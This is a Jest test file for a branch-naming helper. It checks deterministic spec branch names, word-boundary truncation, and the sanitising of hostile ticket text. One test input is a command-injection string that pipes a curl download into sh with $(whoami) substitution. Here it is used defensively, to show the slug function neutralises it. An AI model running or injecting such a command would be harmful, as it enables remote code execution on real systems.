import { describe, expect, it } from '@jest/globals';
import { slugify, specBranch } from '../../src/core/branch.js';

describe('spec branches', () => {
  it('is deterministic per ticket', () => {
    expect(specBranch('specgate/', { issue: 42, jiraKey: 'ABC-1' })).toBe('specgate/issue-42');
    expect(specBranch('specgate/', { jiraKey: 'ABC-1' })).toBe('specgate/abc-1');
  });

  it('slugifies hostile text into a safe ref component', () => {
    expect(slugify('"; curl http://x | sh $(whoami)')).toBe('curl-http-x-sh-whoami');
    expect(slugify('---')).toBe('ticket');
  });

  it('cuts a long title between words, never mid-word', () => {
    const title = 'Refuse unknown users and empty passwords at the login form';
    const slug = slugify(title);
    expect(slug).toBe('refuse-unknown-users-and-empty-passwords');
    expect(slug.length).toBeLessThanOrEqual(40);
    expect(slugify('a'.repeat(60))).toBe('a'.repeat(40));
    expect(slugify('exactly-forty-characters-long-title-abcd')).toHaveLength(40);
  });
});
